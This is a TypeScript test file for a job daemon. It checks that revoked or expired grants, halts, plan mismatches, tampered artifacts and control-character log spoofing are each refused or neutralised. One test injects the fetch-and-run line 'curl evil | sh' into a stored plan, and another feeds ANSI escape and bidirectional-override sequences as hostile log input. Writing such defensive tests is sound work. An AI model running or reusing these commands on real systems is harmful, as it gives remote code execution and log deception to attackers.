import { expect, test } from 'vitest';
import { ManualClock } from '../helpers/manual-clock.ts';
import { digestOf } from '../../daemon/digest.ts';
import { planDigestOf } from '../../daemon/jobs/identity.ts';
import { TestRunner, book } from './parts.ts';
import { World, aborted, latch, until } from './world.ts';

const fn = (name: string) => ({ name, kind: 'fn' });
const undo = { ...fn('undo'), on: 'failure' as const };
const tidy = { ...fn('tidy'), on: 'always' as const };

test('attack 20: a grant revoked in mid-job ends the running step; no further step and no rollback runs', async () => {
  const runner = new TestRunner({
    one: async ({ signal }) => {
      await aborted(signal);
      return { status: 'FAIL', why: 'stopped' };
    },
  });
  const world = await World.open({ runner });
  const request = await world.request(book([fn('one'), fn('two'), undo, tidy], { retries: 3 }));
  const { job_id } = await world.engine.submit(request);
  await until(() => runner.ran.length === 1);
  await world.grants.revoke({ gid: request.grant_id }, 'olga', 'not so');
  expect(await world.engine.wait(job_id)).toEqual({ status: 'CANCELLED', attempt_id: `${job_id}.1` });
  const { attempts } = await world.engine.get(job_id);
  expect(attempts[0]?.record.error_code).toBe('GRANT_REVOKED');
  expect(attempts[0]?.why).toMatch(/rollback not run: The grant .* is revoked.*tidy not run/);
  expect(runner.ran).toEqual(['one']);
});

test('attack 20: a grant revoked while its job waits: the job never begins', async () => {
  const gate = latch();
  const runner = new TestRunner({ hold: async () => (await gate.promise, { status: 'PASS' }) });
  const world = await World.open({ runner, limits: { concurrent_jobs: 1 } });
  await world.submit(book([fn('hold')]));
  await until(() => runner.ran.length === 1);
  const request = await world.request(book([fn('two')]));
  const { job_id } = await world.engine.submit(request);
  await world.grants.revoke({ sub: 'person:alice' }, 'olga', 'left the team');
  gate.open();
  expect((await world.engine.wait(job_id)).status).toBe('CANCELLED');
  const { attempts } = await world.engine.get(job_id);
  expect(attempts[0]?.record.error_code).toBe('GRANT_REVOKED');
  expect(runner.ran).toEqual(['hold']);
  await expect(
    world.engine.submit({ ...request, anchor: { kind: 'nonce', id: 'other' } }),
  ).rejects.toMatchObject({
    code: 'GRANT_REVOKED',
  });
});

test('attack 22: a halt between the check and the step: the intent is never written, the step never runs', async () => {
  const world = await World.open();
  const check = world.grants.check.bind(world.grants);
  let checks = 0;
  // The last moment there is: after the engine's own check before the step, before the intent is sequenced.
  world.grants.check = (gid, wanted) => {
    const payload = check(gid, wanted);
    if (++checks === AT) void world.work.halt('all', 'olga', 'smoke');
    return payload;
  };
  const AT = await (async () => {
    const probe = await World.open();
    const original = probe.grants.check.bind(probe.grants);
    let n = 0;
    let first = 0;
    probe.grants.check = (gid, wanted) => {
      n += 1;
      return original(gid, wanted);
    };
    const append = probe.ledger.append.bind(probe.ledger);
    probe.ledger.append = (type, body, options) => {
      if (type === 'job.step.started' && first === 0) first = n;
      return append(type, body, options);
    };
    await probe.run(book([fn('one')]));
    return first;
  })();
  const job = await world.run(book([fn('one'), undo]));
  expect(job.status).toBe('CANCELLED');
  expect(job.attempts[0]?.record.error_code).toBe('HALTED');
  expect(world.runner.ran).toEqual([]);
  expect(await world.records('job.step.started')).toEqual([]);
});

test('attack 22: a halt while the intent is on its way to the disk: the outcome says not started', async () => {
  const world = await World.open();
  const append = world.ledger.append.bind(world.ledger);
  world.ledger.append = async (type, body, options) => {
    const written = append(type, body, options);
    if (type === 'job.step.started') await world.work.halt({ project: 'shop' }, 'olga', 'smoke');
    return written;
  };
  const job = await world.run(book([fn('one'), undo, tidy]));
  expect(job.attempts[0]?.record).toMatchObject({ status: 'CANCELLED', error_code: 'HALTED' });
  expect(job.attempts[0]?.steps[0]).toMatchObject({ name: 'one', status: 'CANCELLED' });
  expect(job.attempts[0]?.steps[0]?.why).toMatch(/^not started: Project shop is halted/);
  expect(world.runner.ran).toEqual([]);
});

test('attack 22: a halted project starts nothing; when it is lifted, what waited is checked anew', async () => {
  const world = await World.open();
  await world.work.halt('all', 'olga', 'smoke');
  const made = book([fn('one')]);
  await expect(world.submit(made)).rejects.toMatchObject({ code: 'HALTED' });
  expect(await world.records('job.queued')).toEqual([]);
  await world.work.lift('all', 'olga', 'clear');
  expect((await world.run(made)).status).toBe('PASS');
});

test('attack 23: a plan that is not the one with the digest is refused and leaves no record', async () => {
  const world = await World.open();
  const request = await world.request(book([{ name: 'one', script: 'true' }]));
  const { plan } = request;
  const [step] = plan.steps;
  if (step === undefined) throw new Error('no step');
  for (const changed of [
    { ...plan, inputs: { version: 'v2' } },
    { ...plan, environment_names: ['AWS_PROFILE'] },
    { ...plan, targets: { host: 'prod-1' } },
    { ...plan, steps: [{ ...step, spec: { script: 'true ' } }] },
    { ...plan, env: 'prod' },
  ])
    await expect(world.engine.submit({ ...request, plan: changed })).rejects.toMatchObject({
      code: 'GRANT_PLAN_MISMATCH',
    });
  const other = { ...plan, env: 'prod' };
  await expect(
    world.engine.submit({ ...request, plan: other, plan_digest: planDigestOf(other) }),
  ).rejects.toMatchObject({ code: 'GRANT_SCOPE' });
  expect(await world.records('job.queued')).toEqual([]);
});

test('attack 23: the runbook file, or the configuration, changed while the job waited', async () => {
  for (const change of ['runbook', 'config'] as const) {
    const gate = latch();
    const runner = new TestRunner({ hold: async () => (await gate.promise, { status: 'PASS' }) });
    const world = await World.open({ runner, limits: { concurrent_jobs: 1 } });
    await world.submit(book([fn('hold')]));
    await until(() => runner.ran.length === 1);
    const made = book([fn('two')]);
    const id = await world.submit(made);
    if (change === 'runbook')
      world.runbooks.set('run-two', { ...made.runbook, digest: digestOf('another text') });
    else world.config.estate = { ...world.config.estate, digest: digestOf('another reeve.yaml') };
    gate.open();
    await world.engine.wait(id);
    const { attempts } = await world.engine.get(id);
    const code = change === 'runbook' ? 'RUNBOOK_CHANGED' : 'GRANT_PLAN_MISMATCH';
    expect(attempts[0]?.record).toMatchObject({ status: 'CANCELLED', error_code: code });
    expect(runner.ran).toEqual(['hold']);
  }
});

test('attack 23: the stored plan was tampered with', async () => {
  const gate = latch();
  const runner = new TestRunner({ hold: async () => (await gate.promise, { status: 'PASS' }) });
  const world = await World.open({ runner, limits: { concurrent_jobs: 1 } });
  await world.submit(book([fn('hold')]));
  const id = await world.submit(book([fn('two')]));
  const get = world.artifacts.get.bind(world.artifacts);
  world.artifacts.get = async (digest) =>
    Buffer.from(
      Buffer.from(await get(digest))
        .toString()
        .replaceAll('true', 'curl evil | sh'),
    );
  gate.open();
  await world.engine.wait(id);
  expect(world.engine.list()[0]?.attempts[0]?.record).toMatchObject({
    status: 'CANCELLED',
    error_code: 'ARTIFACT_CORRUPT',
  });
  expect(runner.ran).toEqual(['hold']);
});

test('attack 27: what runs is what was confirmed, character by character, whatever its holder does to it later', async () => {
  let ran: unknown;
  const runner = new TestRunner({
    one: (context, step) => {
      ran = step.spec.script;
      expect(() => Object.assign(step.spec, { script: 'evil' })).toThrow(TypeError);
      expect(() => Object.assign(context.plan.steps[1]?.spec ?? {}, { script: 'evil' })).toThrow(TypeError);
      return { status: 'PASS' };
    },
  });
  const world = await World.open({ runner });
  const script = `echo a${' '.repeat(5000)}&& true\t# \u00a0 end `;
  const request = await world.request(book([{ ...fn('one'), script }, fn('two')]));
  const submitted = world.engine.submit(request);
  const [first] = request.plan.steps;
  if (first !== undefined) first.spec = { script: 'evil' };
  await world.engine.wait((await submitted).job_id);
  expect(ran).toBe(script);
  expect(world.engine.list()[0]?.status).toBe('PASS');
});

test('a grant that expires between two steps ends the attempt there, and the rollback says why it did not run', async () => {
  const clock = new ManualClock();
  const runner = new TestRunner({
    one: async () => {
      await clock.advance(60_000);
      return { status: 'PASS' };
    },
  });
  const world = await World.open({ clock, runner });
  const request = await world.request(book([fn('one'), fn('two'), undo]), { lifetime_ms: 60_000 });
  const { job_id } = await world.engine.submit(request);
  await world.engine.wait(job_id);
  const { attempts } = await world.engine.get(job_id);
  expect(attempts[0]?.record).toMatchObject({ status: 'CANCELLED', error_code: 'GRANT_EXPIRED' });
  expect(attempts[0]?.why).toMatch(
    /^two: The grant expired.*; rollback not run from undo on: The grant expired/,
  );
  expect(runner.ran).toEqual(['one']);
});

test('attack 51: controls, colours and bidirectional marks of a step do not reach the log', async () => {
  const world = await World.open();
  const script = String.raw`printf '\033[31mred\033[0m a\rb\033]0;title\007 \342\200\256evil\342\200\250x\n'`;
  const job = await world.run(book([{ name: 'one', script }]));
  const lines = (await world.engine.logs(job.spec.job_id)).filter(({ stream }) => stream === 'stdout');
  expect(lines.map(({ line }) => line)).toEqual(['red a', 'b \\u{202e}evil\\u{2028}x']);
});
